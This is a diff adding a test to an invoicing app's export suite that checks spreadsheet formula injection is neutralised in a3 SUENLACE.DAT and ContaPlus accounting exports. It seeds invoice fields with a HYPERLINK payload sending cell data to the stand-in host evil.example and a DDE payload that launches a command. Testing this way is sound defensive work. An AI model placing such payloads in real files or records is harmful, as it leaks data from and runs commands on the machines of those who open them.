@@ -166,6 +166,75 @@ describe(`exports: libro registro and accounting packages (${TEST_DB})`, () => {
     expect(name.value).toBe('=HYPERLINK("http://example.com","x")');
   });
 
+  it('a3 SUENLACE.DAT and ContaPlus: invoice text that would run as a formula is escaped, amounts stay numbers', async () => {
+    const other = await seedKnownClient(ctx, owner.user.id, { name: 'Ataque', taxId: '66666666Q' });
+    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Factura")';
+    const dde = "=cmd|' /C calc'!A0";
+    await ctx.db
+      .update(invoices)
+      .set({ recipientName: hyperlink, number: dde })
+      .where(eq(invoices.id, other.ids['F-1'] as string));
+    // The credit note: negative amounts, text starting with @ and -.
+    await ctx.db
+      .update(invoices)
+      .set({ recipientName: '@SUM(1+1)', number: '-2+3' })
+      .where(eq(invoices.id, other.ids['R-1'] as string));
+    const get = async (kind: string) => {
+      const res = await ctx.request(
+        `/api/v1/clients/${other.client.id}/exports/${kind}?from=2026-01-01&to=2026-03-31`,
+        { headers: owner.headers },
+      );
+      expect(res.status).toBe(200);
+      return Buffer.from(await res.arrayBuffer()).toString('latin1');
+    };
+    const field = (record: string, from: number, to: number) => record.slice(from - 1, to).trimEnd();
+    const records = (await get('a3')).split('\r\n').slice(0, -1);
+    const headers = records.filter((r) => r[14] !== '9');
+    const f1 = headers.find((r) => field(r, 253, 312).includes('cmd')) as string;
+    expect([field(f1, 59, 68), field(f1, 70, 99), field(f1, 190, 229), field(f1, 253, 312)]).toEqual([
+      `'${dde}`.slice(0, 10),
+      `'${hyperlink}`.slice(0, 30),
+      `'${hyperlink}`.slice(0, 40),
+      `'${dde}`,
+    ]);
+    expect(field(f1, 100, 113)).toBe('+0000002120.00');
+    const r1 = headers.find((r) => field(r, 59, 68) === "'-2+3") as string;
+    expect([r1[14], field(r1, 70, 99), field(r1, 100, 113)]).toEqual(['2', "'@SUM(1+1)", '+0000000212.00']);
+    // No text field of any record starts a formula.
+    for (const record of records)
+      for (const [from, to] of [
+        [59, 68],
+        [70, 99],
+        [176, 189],
+        [190, 229],
+        [253, 312],
+      ] as const)
+        expect(field(record, from, to)).not.toMatch(/^[=+\-@\t\r]/);
+
+    const widths = CONTAPLUS_FIELDS.map(([name, w]) => [name, w] as const);
+    const rows = (await get('contaplus'))
+      .split('\r\n')
+      .slice(0, -1)
+      .map((line) => {
+        const out: Record<string, string> = {};
+        let pos = 0;
+        for (const [name, w] of widths) {
+          out[name] = line.slice(pos, pos + w).trim();
+          pos += w;
+        }
+        return out;
+      });
+    expect(rows.filter((r) => r.DOCUMENTO === `'${dde}`.slice(0, 10))).not.toHaveLength(0);
+    expect(rows.filter((r) => r.DOCUMENTO === "'-2+3")).not.toHaveLength(0);
+    for (const row of rows) {
+      expect(row.DOCUMENTO).not.toMatch(/^[=+\-@]/);
+      expect(row.CONCEPTO).not.toMatch(/^[=+\-@]/);
+      // Amounts: plain numbers, the credit note's on the other side rather than negative text.
+      expect(row.EURODEBE).toMatch(/^\d+\.\d{2}$/);
+      expect(row.EUROHABER).toMatch(/^\d+\.\d{2}$/);
+    }
+  });
+
   it('a3 SUENLACE.DAT: 512-byte records, header 1/2 and VAT detail 9 at their positions', async () => {
     const res = await download('a3');
     expect(res.status).toBe(200);
